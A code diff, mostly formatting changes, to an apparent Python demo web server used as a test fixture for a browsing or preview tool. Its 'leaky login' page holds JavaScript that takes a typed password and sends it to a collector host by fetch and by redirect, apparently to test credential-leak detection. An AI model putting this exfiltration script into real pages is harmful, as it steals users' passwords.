@@ -67,7 +67,7 @@ def _two_factor_form(error: str = "") -> bytes:
     err = f'<p class="error" role="alert">{html.escape(error)}</p>' if error else ""
     return _page(
         "Two-factor sign-in - Acme",
-        '<h1>Two-factor sign-in</h1>' + err + '<form method="post" action="/2fa">'
+        "<h1>Two-factor sign-in</h1>" + err + '<form method="post" action="/2fa">'
         '<label for="code">Authentication code</label>'
         '<input id="code" name="code" type="text" inputmode="numeric" autocomplete="one-time-code" placeholder="123456">'
         '<button type="submit">Verify</button></form>',
@@ -172,24 +172,26 @@ def _leaky_page(collector: str) -> bytes:
         '<h1>Leaky login</h1><form method="get" action="/relay">'
         '<label for="password">Password</label><input id="password" name="pw" type="password" placeholder="Password">'
         f'<button formaction="{collector}/collect">Sign in elsewhere</button>'
-        '<button>Sign in via relay</button>'
+        "<button>Sign in via relay</button>"
         '<button type="button" onclick="leak()">Continue</button></form>',
         script=f"function leak() {{ var v = document.getElementById('password').value;"
-               f" fetch('{collector}/collect', {{method: 'POST', mode: 'no-cors', body: btoa(v)}})"
-               f".catch(function () {{}}).finally(function () {{"
-               f" location.href = '{collector}/collect?v=' + encodeURIComponent(v); }}); }}",
+        f" fetch('{collector}/collect', {{method: 'POST', mode: 'no-cors', body: btoa(v)}})"
+        f".catch(function () {{}}).finally(function () {{"
+        f" location.href = '{collector}/collect?v=' + encodeURIComponent(v); }}); }}",
     )
 
 
 def _third_party_page(other: str) -> bytes:
     """A preview page that loads an image, a script, a frame and a fetch from another origin, and an image, a script
     and a frame through the preview's own redirects to it (/elsewhere/...: 302 and 307)."""
-    return _page("Third-party page - Acme",
-                 f'<h1>Third-party page</h1><img src="{other}/pixel.gif" alt=""><script src="{other}/lib.js"></script>'
-                 f'<iframe src="{other}/frame" title="widget"></iframe><img src="/elsewhere/redirected.gif" alt="">'
-                 '<script src="/elsewhere/redirected.js?status=307"></script>'
-                 '<iframe src="/elsewhere/redirected-frame" title="redirected widget"></iframe>',
-                 script=f"fetch('{other}/api', {{mode: 'no-cors'}}).catch(function () {{}});")
+    return _page(
+        "Third-party page - Acme",
+        f'<h1>Third-party page</h1><img src="{other}/pixel.gif" alt=""><script src="{other}/lib.js"></script>'
+        f'<iframe src="{other}/frame" title="widget"></iframe><img src="/elsewhere/redirected.gif" alt="">'
+        '<script src="/elsewhere/redirected.js?status=307"></script>'
+        '<iframe src="/elsewhere/redirected-frame" title="redirected widget"></iframe>',
+        script=f"fetch('{other}/api', {{mode: 'no-cors'}}).catch(function () {{}});",
+    )
 
 
 _APP_LOGIN = _page(
@@ -217,10 +219,13 @@ def _app_page(path: str, signed_in: bool) -> bytes:
     title = APP_PAGES[path]
     nav = "".join(f'<a href="{href}">{label}</a> ' for href, label in APP_PAGES.items())
     if not signed_in:
-        return _page(f"{title} - Acme app", f'<h1>{title}</h1><p>{nav}</p><p id="who">Not signed in.</p>'
-                     '<p><a href="/app/login">Sign in</a></p>')
-    return _page(f"{title} - Acme app", f'<h1>{title}</h1><p>{nav}</p><p id="who"></p>'
-                 f"<p>{title} of your account.</p>", script=_APP_WHO)
+        return _page(
+            f"{title} - Acme app",
+            f'<h1>{title}</h1><p>{nav}</p><p id="who">Not signed in.</p><p><a href="/app/login">Sign in</a></p>',
+        )
+    return _page(
+        f"{title} - Acme app", f'<h1>{title}</h1><p>{nav}</p><p id="who"></p><p>{title} of your account.</p>', script=_APP_WHO
+    )
 
 
 # A real app's page: header and navigation first, a long list, the line that matters at the very bottom; no favicon.
@@ -241,8 +246,9 @@ _CART = _page(
 _FIRST_LOAD_BROKEN = _page("Account - Acme", '<h1>Something went wrong</h1><p role="alert">Please try again.</p>')
 _ACCOUNT = _page("Account - Acme", "<h1>Welcome back</h1><p>Your account is ready.</p>")
 # The same page as this pull request's preview serves it (broken) and as production does (working).
-_CHECKOUT_PREVIEW = _page("New checkout - Acme", '<h1>New checkout</h1><p role="alert">Payment failed: the card form '
-                                                 "did not load.</p>")
+_CHECKOUT_PREVIEW = _page(
+    "New checkout - Acme", '<h1>New checkout</h1><p role="alert">Payment failed: the card form did not load.</p>'
+)
 _CHECKOUT_PRODUCTION = _page("New checkout - Acme", "<h1>New checkout</h1><p>Card form ready.</p>")
 
 
@@ -378,8 +384,12 @@ class _Handler(BaseHTTPRequestHandler):
             "/newsletter": _NEWSLETTER,
             "/newsletter-unlabeled": _NEWSLETTER_UNLABELED,
         }
-        stateful = {"/todos": lambda: todo.todos_page(self.site.todo_version), "/todos/summary": todo.summary_page,
-                    "/help": todo.help_page, "/basket": lambda: todo.cart_page(todo.cart_items(self.headers.get("Cookie", "")))}
+        stateful = {
+            "/todos": lambda: todo.todos_page(self.site.todo_version),
+            "/todos/summary": todo.summary_page,
+            "/help": todo.help_page,
+            "/basket": lambda: todo.cart_page(todo.cart_items(self.headers.get("Cookie", ""))),
+        }
         if path in pages:
             self._send(200, pages[path])
         elif path in stateful:
@@ -588,9 +598,15 @@ class DemoSite(BackgroundServer):
 
     handler = _Handler
 
-    def __init__(self, password: str = "demo-pass-123", port: int = 0, host: str = "127.0.0.1",
-                 production: bool = False, basic_auth: tuple[str, str] | None = None,
-                 login_wall: str | None = None) -> None:
+    def __init__(
+        self,
+        password: str = "demo-pass-123",
+        port: int = 0,
+        host: str = "127.0.0.1",
+        production: bool = False,
+        basic_auth: tuple[str, str] | None = None,
+        login_wall: str | None = None,
+    ) -> None:
         super().__init__(port, host)
         self.password, self.production = password, production
         self.basic_auth = basic_auth  # (user, password) every request to `host` needs (COLLECTOR_HOST's do not)
